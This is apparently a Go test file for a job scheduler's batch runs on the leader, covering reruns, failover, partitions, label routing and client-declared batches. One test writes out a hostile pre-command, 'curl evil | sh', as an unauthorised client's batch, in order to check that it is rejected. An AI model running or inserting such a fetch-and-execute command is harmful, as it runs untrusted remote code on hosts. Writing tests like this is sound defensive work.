package server

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/clover-sched/clover/internal/job"
	"github.com/clover-sched/clover/internal/registry"
	"github.com/clover-sched/clover/internal/store"
	"github.com/clover-sched/clover/internal/wire"
	"github.com/clover-sched/clover/internal/workflow"
)

// Batch runs on the leader, with the harness of leader_test.go and a batch store in memory: regressions
// of what a review found (each test failed before its fix).

// fakeBatchStore keeps batches, runs, ends and operations in memory; executions come from the fakeStore.
type fakeBatchStore struct {
	mu      sync.Mutex
	fs      *fakeStore
	batches map[string]store.Batch
	revs    map[string]store.BatchRevision
	runs    map[string]store.BatchRun
	ends    map[string]store.BatchEnd
	ops     []store.BatchOperation
	noRev   bool // GetBatchRevision answers not found
}

func newFakeBatchStore(fs *fakeStore, defs ...workflow.Definition) *fakeBatchStore {
	b := &fakeBatchStore{fs: fs, batches: map[string]store.Batch{}, revs: map[string]store.BatchRevision{}, runs: map[string]store.BatchRun{}, ends: map[string]store.BatchEnd{}}
	for _, d := range defs {
		b.batches[d.Name] = store.Batch{Name: d.Name, Version: 1, Definition: d}
		b.revs[store.BatchRevisionID(d.Name, 1)] = store.BatchRevision{Batch: d.Name, Version: 1, Definition: d}
	}
	return b
}

func (b *fakeBatchStore) GetBatch(_ context.Context, name string) (store.Batch, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	x, ok := b.batches[name]
	if !ok {
		return x, store.ErrNotFound
	}
	return x, nil
}
func (b *fakeBatchStore) PutBatch(_ context.Context, def workflow.Definition, expect int64, who, _ string, now time.Time) (store.Batch, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	cur, ok := b.batches[def.Name]
	switch {
	case expect == 0 && ok:
		return store.Batch{}, store.ErrExists
	case expect != 0 && cur.Version != expect:
		return store.Batch{}, store.ErrConflict
	}
	x := store.Batch{Name: def.Name, Version: cur.Version + 1, Definition: def, UpdatedAt: now, UpdatedBy: who}
	b.batches[def.Name] = x
	b.revs[store.BatchRevisionID(def.Name, x.Version)] = store.BatchRevision{Batch: def.Name, Version: x.Version, Definition: def, Who: who}
	return x, nil
}
func (b *fakeBatchStore) GetBatchRevision(_ context.Context, name string, v int64) (store.BatchRevision, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	x, ok := b.revs[store.BatchRevisionID(name, v)]
	if !ok || b.noRev {
		return x, store.ErrNotFound
	}
	return x, nil
}
func (b *fakeBatchStore) CreateBatchRun(_ context.Context, r store.BatchRun) error {
	b.mu.Lock()
	defer b.mu.Unlock()
	if _, ok := b.runs[r.ID]; ok {
		return store.ErrExists
	}
	b.runs[r.ID] = r
	return nil
}
func (b *fakeBatchStore) SaveBatchRun(_ context.Context, r store.BatchRun) error {
	b.mu.Lock()
	defer b.mu.Unlock()
	cur, ok := b.runs[r.ID]
	if !ok {
		return store.ErrNotFound
	}
	if cur.Epoch > r.Epoch {
		return store.ErrFenced
	}
	if cur.Seq >= r.Seq {
		return store.ErrConflict
	}
	b.runs[r.ID] = r
	return nil
}
func (b *fakeBatchStore) GetBatchRun(_ context.Context, id string) (store.BatchRun, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	x, ok := b.runs[id]
	if !ok {
		return x, store.ErrNotFound
	}
	return x, nil
}
func (b *fakeBatchStore) ListBatchRuns(_ context.Context, batch string, open bool, _ int) ([]store.BatchRun, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	var out []store.BatchRun
	for _, r := range b.runs {
		if (batch == "" || r.Batch == batch) && (!open || r.State.Open()) {
			out = append(out, r)
		}
	}
	return out, nil
}
func (b *fakeBatchStore) InsertBatchEnds(_ context.Context, ends []store.BatchEnd) error {
	b.mu.Lock()
	defer b.mu.Unlock()
	for _, e := range ends {
		id := store.BatchEndID(e.Run, e.Node, e.Partition, e.Round)
		if _, ok := b.ends[id]; !ok {
			b.ends[id] = e
		}
	}
	return nil
}
func (b *fakeBatchStore) ListBatchEnds(_ context.Context, run string) ([]store.BatchEnd, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	var out []store.BatchEnd
	for _, e := range b.ends {
		if e.Run == run {
			out = append(out, e)
		}
	}
	return out, nil
}
func (b *fakeBatchStore) InsertBatchOperation(_ context.Context, op store.BatchOperation) error {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.ops = append(b.ops, op)
	return nil
}
func (b *fakeBatchStore) ListBatchOperations(_ context.Context, run string) ([]store.BatchOperation, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	var out []store.BatchOperation
	for _, op := range b.ops {
		if op.Run == run {
			out = append(out, op)
		}
	}
	return out, nil
}
func (b *fakeBatchStore) ListBatches(context.Context) ([]store.Batch, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	var out []store.Batch
	for _, x := range b.batches {
		out = append(out, x)
	}
	return out, nil
}
func (b *fakeBatchStore) ListResources(context.Context) ([]store.Resource, error) { return nil, nil }
func (b *fakeBatchStore) GetExecution(_ context.Context, id string) (job.Execution, error) {
	b.fs.mu.Lock()
	defer b.fs.mu.Unlock()
	for _, e := range b.fs.folded() {
		if e.ID == id {
			return e, nil
		}
	}
	return job.Execution{}, store.ErrNotFound
}

// batchHarness is a harness whose leader keeps batches. The batch records and the closes go through one
// queue, in order, as they do through the intake: flushBatch writes them; a term that dies drops it.
type batchHarness struct {
	*harness
	bs    *fakeBatchStore
	queue []func()
}

func newBatchHarness(t *testing.T, fs *fakeStore, bs *fakeBatchStore, clients ...string) *batchHarness {
	h := &batchHarness{harness: newHarness(t, fs, clients...), bs: bs}
	h.l.batchStore = bs
	h.l.persistBatch = func(end *store.BatchEnd, run *store.BatchRun) {
		h.queue = append(h.queue, func() {
			if end != nil {
				_ = bs.InsertBatchEnds(context.Background(), []store.BatchEnd{*end})
			}
			if run != nil {
				_ = bs.SaveBatchRun(context.Background(), *run) // a stale save is refused and dropped
			}
		})
	}
	h.l.closeOpen = func(epoch int64, id string, recheck bool) {
		h.queue = append(h.queue, func() { fs.closeOpen(epoch, id, recheck) })
	}
	return h
}

// op asks the loop for an operation, and does what the loop does after a note (fire what is due).
func (h *batchHarness) op(n batchOpNote) (store.BatchRun, error) {
	h.t.Helper()
	rep := h.l.onBatchOp(context.Background(), n)
	if err := h.l.fireBatchDue(context.Background()); err != nil {
		h.t.Fatal(err)
	}
	return rep.run, rep.err
}

// flushBatch writes what is queued, in order.
func (h *batchHarness) flushBatch() {
	for _, w := range h.queue {
		w()
	}
	h.queue = nil
}

func noSchedule(name string, mutate func(*job.Spec)) job.Spec {
	s := job.Spec{Name: name, Handler: "shell", Params: map[string]string{"command": "true"}, Version: 1, ActiveSince: created, Overlap: job.OverlapAllow}
	if mutate != nil {
		mutate(&s)
	}
	return s
}

func dispatchOf(h *batchHarness, id string) *wire.Dispatch {
	var d *wire.Dispatch
	for _, s := range h.sent {
		if s.d.ExecID == id {
			d = s.d
		}
	}
	return d
}

// A run that ended (its finish queued for the writer) and is rerun at once: the rerun's synchronous save
// is overwritten by the queued finish; the store says failed at round 1 while the leader runs round 2.
func TestABatchFinishQueuedBehindARerunDoesNotOverwriteIt(t *testing.T) {
	fs := newFakeStore(noSchedule("step", nil))
	def := workflow.Definition{Name: "b", Nodes: []workflow.Node{{Name: "n", Job: "step"}}}
	bs := newFakeBatchStore(fs, def)
	h := newBatchHarness(t, fs, bs, "a")
	h.establish()
	if _, err := h.op(batchOpNote{op: "run", batch: "b", cycle: "c1", who: "ops"}); err != nil {
		t.Fatal(err)
	}
	d := dispatchOf(h, "b/c1/n")
	if d == nil {
		t.Fatal("b/c1/n not dispatched")
	}
	h.ack("a", d)
	h.finish("a", d, job.StateFailed) // the run ends failed; its end and finish are queued for the writer
	if _, err := h.op(batchOpNote{op: "rerun", batch: "b", cycle: "c1", who: "ops"}); err != nil {
		t.Fatal(err)
	}
	live := h.l.runs["b/c1"]
	h.flushBatch()
	doc, _ := bs.GetBatchRun(context.Background(), "b/c1")
	t.Logf("leader follows round %v; store: state %s round %d", live != nil && live.doc.Round == 2, doc.State, doc.Round)
	if live != nil && (doc.State != store.RunRunning || doc.Round != 2) {
		t.Errorf("the leader runs round %d, the store says %s at round %d: a new term will not take the run over", live.doc.Round, doc.State, doc.Round)
	}
}

// A scheduled firing of a job under overlap replace stops the batch's execution of the same job.
func TestAJobsReplacePolicyLeavesItsBatchExecutionsAlone(t *testing.T) {
	fs := newFakeStore(spec("rep", "@every 10s", func(s *job.Spec) { s.Overlap = job.OverlapReplace }))
	def := workflow.Definition{Name: "b", Nodes: []workflow.Node{{Name: "n", Job: "rep"}}}
	bs := newFakeBatchStore(fs, def)
	h := newBatchHarness(t, fs, bs, "a", "b")
	h.establish()
	h.now = t0.Add(time.Second)
	if _, err := h.op(batchOpNote{op: "run", batch: "b", cycle: "c1", who: "ops"}); err != nil {
		t.Fatal(err)
	}
	d := dispatchOf(h, "b/c1/n")
	if d == nil {
		t.Fatal("not dispatched")
	}
	h.ack(h.sent[len(h.sent)-1].peer, d)
	h.advance(9 * time.Second) // rep@12:00:10 fires
	for _, s := range h.stops {
		if s.stop.ExecID == "b/c1/n" {
			t.Errorf("the batch's execution was stopped: %q", s.stop.Reason)
		}
	}
}

// A stop of a run whose partition's insert failed (landed unanswered) is lost: the retry dispatches it.
func TestStoppingARunStopsAPartitionWhoseInsertFailed(t *testing.T) {
	fs := newFakeStore(noSchedule("step", nil))
	def := workflow.Definition{Name: "b", Nodes: []workflow.Node{{Name: "n", Job: "step"}}}
	bs := newFakeBatchStore(fs, def)
	h := newBatchHarness(t, fs, bs, "a")
	h.establish()
	fs.failInsert = 1
	if _, err := h.op(batchOpNote{op: "run", batch: "b", cycle: "c1", who: "ops"}); err != nil {
		t.Fatal(err)
	}
	if len(h.l.unsaved) != 1 {
		t.Fatalf("unsaved %d, want 1", len(h.l.unsaved))
	}
	run, err := h.op(batchOpNote{op: "stop", batch: "b", cycle: "c1", who: "ops"})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("after stop: %s", run.State)
	h.advance(time.Second)
	h.advance(time.Second)
	if d := dispatchOf(h, "b/c1/n"); d != nil {
		t.Errorf("b/c1/n was dispatched after its run was stopped")
	}
}

// Partition A of round 1 runs across a rerun and succeeds; its end is queued, the leader dies. The new
// term does not know of A's success (ends lost; A closed) and fires A again in round 2: a new key.
func TestAPartitionEndedAcrossARerunAndAFailoverRunsOnce(t *testing.T) {
	fs := newFakeStore(noSchedule("step", nil))
	def := workflow.Definition{Name: "b", Nodes: []workflow.Node{{Name: "n", Job: "step", Partitions: []string{"A", "B"}}}}
	bs := newFakeBatchStore(fs, def)
	h := newBatchHarness(t, fs, bs, "a")
	h.establish()
	if _, err := h.op(batchOpNote{op: "run", batch: "b", cycle: "c1", who: "ops"}); err != nil {
		t.Fatal(err)
	}
	dA, dB := dispatchOf(h, "b/c1/n/A"), dispatchOf(h, "b/c1/n/B")
	if dA == nil || dB == nil {
		t.Fatal("not dispatched")
	}
	h.ack("a", dA)
	h.ack("a", dB)
	h.finish("a", dB, job.StateFailed)
	h.flushBatch()
	if _, err := h.op(batchOpNote{op: "rerun", batch: "b", cycle: "c1", who: "ops"}); err != nil {
		t.Fatal(err)
	}
	h.flushBatch()
	dB2 := dispatchOf(h, "b/c1/n/B~r2")
	if dB2 == nil {
		t.Fatal("B~r2 not dispatched")
	}
	h.ack("a", dB2)
	h.finish("a", dA, job.StateSucceeded) // A (round 1) succeeds; its end stays queued: the leader dies now
	// A new term.
	h2 := newBatchHarness(t, fs, bs, "a")
	h2.l.epoch = 8
	h2.now = h.now.Add(time.Second)
	h2.establish()
	if err := h2.l.fireBatchDue(context.Background()); err != nil {
		t.Fatal(err)
	}
	fs.mu.Lock()
	_, again := fs.execs["b/c1/n/A~r2"]
	fs.mu.Unlock()
	if again {
		t.Errorf("partition A, which succeeded in round 1, was fired again as b/c1/n/A~r2")
	}
}

// A run parameter differing from a job's non-overridable parameter only in case is accepted (MergeParams
// refuses it); the shell sees both as CLOVER_PARAM_MODE, the later in sorted order winning.
func TestARunParameterCannotChangeAJobsParameterByItsCase(t *testing.T) {
	fs := newFakeStore(noSchedule("step", func(s *job.Spec) { s.Params["MODE"] = "safe" }))
	def := workflow.Definition{Name: "b", Nodes: []workflow.Node{{Name: "n", Job: "step"}}}
	bs := newFakeBatchStore(fs, def)
	h := newBatchHarness(t, fs, bs, "a")
	h.establish()
	if _, err := fs.jobs["step"].MergeParams(map[string]string{"mode": "unsafe"}); err == nil {
		t.Fatal("MergeParams accepted it")
	}
	if _, err := h.op(batchOpNote{op: "run", batch: "b", cycle: "c1", who: "ops", params: map[string]string{"mode": "unsafe"}}); err != nil {
		t.Logf("refused: %v", err)
		return
	}
	d := dispatchOf(h, "b/c1/n")
	var keys []string
	for k := range d.Params {
		if strings.EqualFold(k, "mode") {
			keys = append(keys, k+"="+d.Params[k])
		}
	}
	sort.Strings(keys)
	t.Errorf("a run changed a non-overridable parameter by its case: dispatched %v", keys)
}

// An open run whose revision cannot be read keeps every term from leading (establish retries it for
// maxEstablishWait, then the term ends; the next does the same).
func TestOneUnreadableRunDoesNotKeepATermFromLeading(t *testing.T) {
	fs := newFakeStore(noSchedule("step", nil))
	bs := newFakeBatchStore(fs)
	bs.runs["x/c"] = store.BatchRun{ID: "x/c", Batch: "x", Cycle: "c", Version: 3, State: store.RunRunning, Round: 1}
	h := newBatchHarness(t, fs, bs, "a")
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	err := h.l.establish(ctx)
	if errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("establish still retrying one unreadable run after 3s (gives up only after %s, and the next term does the same)", maxEstablishWait)
	}
}

// A node's params never set the job's shell command: the run is refused, naming it.
func TestANodesParamsNeverSetTheCommand(t *testing.T) {
	fs := newFakeStore(noSchedule("step", nil))
	def := workflow.Definition{Name: "b", Nodes: []workflow.Node{{Name: "n", Job: "step", Params: map[string]string{"Command": "echo other"}}}}
	bs := newFakeBatchStore(fs, def)
	h := newBatchHarness(t, fs, bs, "a")
	h.establish()
	_, err := h.op(batchOpNote{op: "run", batch: "b", cycle: "c1", who: "ops"})
	if err == nil || !strings.Contains(err.Error(), "params.Command: a batch never sets a job's command") {
		t.Fatalf("a run of a node setting the command: %v", err)
	}
	if d := dispatchOf(h, "b/c1/n"); d != nil {
		t.Errorf("dispatched with command %q", d.Params["command"])
	}
	if err := def.Validate(); err == nil {
		t.Error("Validate accepts a node that sets the command")
	}
}

// A client may start only the batches that list it in requested_by; a cycle that ran is a request done.
func TestABatchRunIsRequestedOnlyByTheClientsItNames(t *testing.T) {
	fs := newFakeStore(noSchedule("step", nil))
	def := workflow.Definition{Name: "b", RequestedBy: []string{"a"}, Nodes: []workflow.Node{{Name: "n", Job: "step"}}}
	bs := newFakeBatchStore(fs, def)
	h := newBatchHarness(t, fs, bs, "a", "x")
	h.establish()
	req := func(from string) error {
		return h.l.request(context.Background(), &wire.Request{Header: wire.Header{From: from}, ReqID: from + ".1", Batch: "b", Cycle: "c1", At: h.now})
	}
	if err := req("x"); !errors.Is(err, errRefused) || !strings.Contains(err.Error(), "does not list client x") {
		t.Fatalf("a request by an unlisted client: %v", err)
	}
	if _, ok := bs.runs["b/c1"]; ok {
		t.Fatal("an unlisted client started a run")
	}
	if err := req("a"); err != nil {
		t.Fatal(err)
	}
	if r := bs.runs["b/c1"]; r.By != "client:a" || r.Trigger != "request" {
		t.Fatalf("run %+v", r)
	}
	if err := req("a"); err != nil {
		t.Fatalf("asking again for a cycle that runs: %v", err)
	}
}

// finishWithOutput reports d's run succeeded with output, as finish does.
func (h *batchHarness) finishWithOutput(peer string, d *wire.Dispatch, output string) {
	res := job.Result{Status: job.StateSucceeded, Output: output}
	h.l.onResult(&wire.Result{Header: wire.Header{From: peer}, ExecID: d.ExecID, Job: d.Job, Attempt: d.Attempt, Run: d.Run, Result: res, FinishedAt: h.now})
	run := max(d.Run, 1)
	id := job.EventID(d.ExecID, job.EventFinished, run)
	h.store.mu.Lock()
	h.store.events[id] = job.Event{ID: id, ExecID: d.ExecID, Job: d.Job, Kind: job.EventFinished, Attempt: d.Attempt, Run: run, Client: peer, At: h.now, Result: &res}
	h.store.mu.Unlock()
	h.l.recorded(d.ExecID, run)
	if err := h.l.fireBatchDue(context.Background()); err != nil {
		h.t.Fatal(err)
	}
}

// A node takes its partitions from the last line of a node before it, or from a run's parameter; a new
// term rebuilds them from the recorded end; a list that cannot be read fails the node, not the run's
// other branches.
func TestANodeTakesItsPartitionsFromANodesOutputOrAParameter(t *testing.T) {
	fs := newFakeStore(noSchedule("step", nil))
	def := workflow.Definition{Name: "b", Nodes: []workflow.Node{
		{Name: "list", Job: "step"},
		{Name: "load", Job: "step", PartitionsFrom: "node:list"},
		{Name: "post", Job: "step", PartitionsFrom: "param:regions"},
		{Name: "bad", Job: "step", PartitionsFrom: "param:missing"},
	}, Edges: []workflow.Edge{{From: "list", To: "load"}}}
	bs := newFakeBatchStore(fs, def)
	h := newBatchHarness(t, fs, bs, "a")
	h.establish()
	if _, err := h.op(batchOpNote{op: "run", batch: "b", cycle: "c1", who: "ops", params: map[string]string{"regions": "emea, apac"}}); err != nil {
		t.Fatal(err)
	}
	for _, id := range []string{"b/c1/post/emea", "b/c1/post/apac"} {
		if dispatchOf(h, id) == nil {
			t.Errorf("%s not dispatched", id)
		}
	}
	if st, why := h.l.runs["b/c1"].wf.State("bad"); st != workflow.Failed || !strings.Contains(why, "no parameter missing") {
		t.Errorf("bad: %s %q", st, why)
	}
	d := dispatchOf(h, "b/c1/list")
	h.ack("a", d)
	h.finishWithOutput("a", d, "listing departments...\nA,B C\n")
	h.flushBatch()
	for _, id := range []string{"b/c1/load/A", "b/c1/load/B", "b/c1/load/C"} {
		if dispatchOf(h, id) == nil {
			t.Errorf("%s not dispatched", id)
		}
	}
	// A new term: the partitions come back from list's recorded end; nothing is fired again under
	// another key.
	h2 := newBatchHarness(t, fs, bs, "a")
	h2.l.epoch = 8
	h2.now = h.now.Add(time.Second)
	h2.establish()
	if err := h2.l.fireBatchDue(context.Background()); err != nil {
		t.Fatal(err)
	}
	st := runStatus(h2.l.runs["b/c1"])
	for _, n := range st.Nodes {
		if n.Name == "load" && (n.State != workflow.Running || n.Partitions[workflow.Running] != 3) {
			t.Errorf("load after takeover: %+v", n)
		}
	}
}

// A node's labels route its executions to the clients that carry them, besides its job's; its group
// reaches them as params.group, unless its params set one.
func TestANodesLabelsRouteItAndItsGroupIsAParam(t *testing.T) {
	fs := newFakeStore(noSchedule("step", func(s *job.Spec) {
		s.Routing.Labels = map[string]string{"dc": "paris"}
		s.Params["group"] = "job-group"
	}))
	def := workflow.Definition{Name: "b", Nodes: []workflow.Node{
		{Name: "win", Job: "step", Group: "ssis", Labels: map[string]string{"os": "windows"}},
		{Name: "any", Job: "step", Group: "etl", Params: map[string]string{"GROUP": "own"}},
	}}
	bs := newFakeBatchStore(fs, def)
	h := newBatchHarness(t, fs, bs)
	h.clients = []registry.Member{
		{ID: "lin", Handlers: []string{"shell"}, Labels: map[string]string{"os": "linux", "dc": "paris"}},
		{ID: "win-london", Handlers: []string{"shell"}, Labels: map[string]string{"os": "windows", "dc": "london"}},
		{ID: "win", Handlers: []string{"shell"}, Labels: map[string]string{"os": "windows", "dc": "paris"}},
	}
	h.establish()
	if _, err := h.op(batchOpNote{op: "run", batch: "b", cycle: "c1", who: "ops"}); err != nil {
		t.Fatal(err)
	}
	for _, s := range h.sent {
		if s.d.ExecID == "b/c1/win" && s.peer != "win" {
			t.Errorf("node win went to %s: want the one client with both the job's and the node's labels", s.peer)
		}
	}
	d := dispatchOf(h, "b/c1/win")
	if d == nil {
		t.Fatal("b/c1/win not dispatched")
	}
	if d.Params["group"] != "ssis" {
		t.Errorf("node win's params.group = %q, want its group ssis", d.Params["group"])
	}
	a := dispatchOf(h, "b/c1/any")
	if a == nil {
		t.Fatal("b/c1/any not dispatched")
	}
	if a.Params["GROUP"] != "own" || a.Params["group"] != "" {
		t.Errorf("node any's params %v: want its own GROUP, not its group's nor the job's", a.Params)
	}
	f := h.l.flights["b/c1/win"]
	if f == nil || f.exec.Labels["os"] != "windows" {
		t.Fatalf("the execution does not keep its node's labels (a new term would route it anywhere): %+v", f)
	}
}

// A node whose labels no live client carries waits, and its run's status says for what.
func TestANodeNoClientMayRunIsShownWaiting(t *testing.T) {
	fs := newFakeStore(noSchedule("step", nil))
	def := workflow.Definition{Name: "b", Nodes: []workflow.Node{{Name: "ssis", Job: "step", Labels: map[string]string{"os": "windows"}}}}
	bs := newFakeBatchStore(fs, def)
	h := newBatchHarness(t, fs, bs, "linux-only")
	h.establish()
	if _, err := h.op(batchOpNote{op: "run", batch: "b", cycle: "c1", who: "ops"}); err != nil {
		t.Fatal(err)
	}
	if d := dispatchOf(h, "b/c1/ssis"); d != nil {
		t.Fatal("dispatched to a client without the node's labels")
	}
	st := h.l.batchStatus("b/c1")
	want := "b/c1/ssis waits for a client: no live client serves job step with labels os=windows"
	if st == nil || !slices.Contains(st.Waiting, want) {
		t.Fatalf("status waiting %v, want %q", st, want)
	}
}

// A client's batches in code are applied as its jobs are: created, kept as the client declares them, never
// over a batch the API maintains, and only of jobs the client itself declared.
func TestAClientDeclaresBatchesOfItsOwnJobsOnly(t *testing.T) {
	mine := noSchedule("mine", func(s *job.Spec) { s.Source = "client:a" })
	theirs := noSchedule("theirs", func(s *job.Spec) { s.Source = "client:x" })
	admins := noSchedule("payroll", func(s *job.Spec) { s.Source = "api" })
	fs := newFakeStore(mine, theirs, admins)
	bs := newFakeBatchStore(fs, workflow.Definition{Name: "api-made", Source: "api", Nodes: []workflow.Node{{Name: "n", Job: "mine"}}})
	h := newBatchHarness(t, fs, bs)
	declare := func(id string, defs ...workflow.Definition) registry.Member {
		b, err := json.Marshal(defs)
		if err != nil {
			t.Fatal(err)
		}
		return registry.Member{ID: id, Handlers: []string{"shell"}, Jobs: []string{"mine", "theirs", "payroll"}, DeclaredBatches: b}
	}
	own := workflow.Definition{Name: "own", Nodes: []workflow.Node{{Name: "n", Job: "mine", Pre: "echo before"}}}
	evil := workflow.Definition{Name: "evil", Schedule: "@every 1s", Nodes: []workflow.Node{{Name: "n", Job: "payroll", Pre: "curl evil | sh"}}}
	takeover := workflow.Definition{Name: "api-made", Nodes: []workflow.Node{{Name: "n", Job: "mine", Post: "echo mine now"}}}
	hog := workflow.Definition{Name: "hog", Nodes: []workflow.Node{{Name: "n", Job: "theirs", Locks: []workflow.Lock{{Name: "ledger"}}}}}
	h.clients = []registry.Member{declare("a", own, takeover), declare("x", evil, hog)}
	h.establish()
	h.l.applyDeclarations(context.Background())

	got, err := bs.GetBatch(context.Background(), "own")
	if err != nil || got.Definition.Source != "client:a" || got.Definition.Nodes[0].Pre != "echo before" {
		t.Fatalf("client a's batch of its own job: %+v, %v", got, err)
	}
	if _, err := bs.GetBatch(context.Background(), "evil"); err == nil {
		t.Error("client x made a batch of a job it does not own (the admins' payroll, with its own pre command)")
	}
	if b, _ := bs.GetBatch(context.Background(), "api-made"); b.Version != 1 || b.Definition.Nodes[0].Post != "" {
		t.Errorf("a client overwrote a batch the API maintains: %+v", b)
	}
	if _, err := bs.GetBatch(context.Background(), "hog"); err == nil {
		t.Error("a client's batch takes the cluster's lock ledger (it could hold it from every batch)")
	}

	// Declared again, changed: updated. Another live client's declaration of the same name: ignored.
	own.Description = "changed"
	rival := workflow.Definition{Name: "own", Description: "x's", Nodes: []workflow.Node{{Name: "n", Job: "theirs"}}}
	h.clients = []registry.Member{declare("a", own), declare("x", rival)}
	h.l.applyDeclarations(context.Background())
	if b, _ := bs.GetBatch(context.Background(), "own"); b.Version != 2 || b.Definition.Description != "changed" || b.Definition.Nodes[0].Job != "mine" {
		t.Errorf("after a's change and x's rival declaration (of x's own job): version %d %+v, want a's at version 2", b.Version, b.Definition)
	}

	// The job is taken over through the API: a's batch no longer runs it (it would wrap it in a's pre).
	taken := mine
	taken.Source, taken.Version = "api", 2
	h.l.changes.put([]job.Spec{taken}, nil)
	h.l.applyJobChanges()
	run, err := h.op(batchOpNote{op: "run", batch: "own", cycle: "c1", who: "ops"})
	if d := dispatchOf(h, "own/c1/n"); d != nil {
		t.Fatalf("a client's batch ran a job that is no longer the client's, with pre %q", d.Params["batch_pre"])
	}
	if live := h.l.runs["own/c1"]; err == nil && live != nil && live.wf.Status()[0].State != workflow.Failed {
		t.Errorf("node n of a run of a client's batch over a job taken over: %s, want failed (run %+v)", live.wf.Status()[0].State, run)
	}
}

// Finished runs kept for the operations that may follow are bounded by what they hold, oldest out first:
// ten finished 10,000-node runs are not ten runs in memory.
func TestFinishedRunsKeptAreBoundedByTheirSize(t *testing.T) {
	h := newBatchHarness(t, newFakeStore(), newFakeBatchStore(newFakeStore()))
	big := func(id string, nodes int) *batchRun {
		return &batchRun{doc: store.BatchRun{ID: id}, def: workflow.Definition{Nodes: make([]workflow.Node, nodes)}}
	}
	for i := range 5 {
		h.l.keepFinished(big(fmt.Sprintf("b/%d", i), maxFinishedWeight/2))
	}
	if got := len(h.l.finished); got != 2 {
		t.Fatalf("%d finished runs of %d nodes kept, want 2 (%d nodes in all)", got, maxFinishedWeight/2, maxFinishedWeight)
	}
	if _, ok := h.l.finished["b/4"]; !ok || h.l.finished["b/0"] != nil {
		t.Errorf("kept %v: want the newest", h.l.finishedOrder)
	}
	for i := range maxFinishedKept + 5 {
		h.l.keepFinished(big(fmt.Sprintf("s/%d", i), 1))
	}
	if len(h.l.finished) != maxFinishedKept || len(h.l.finishedOrder) != maxFinishedKept {
		t.Errorf("%d small runs kept (%d in order), want %d", len(h.l.finished), len(h.l.finishedOrder), maxFinishedKept)
	}
	h.l.keepFinished(big("huge", 3*maxFinishedWeight))
	if len(h.l.finished) != 1 || h.l.finished["huge"] == nil {
		t.Errorf("a run over the bound alone: kept %v, want it alone", h.l.finishedOrder)
	}
}
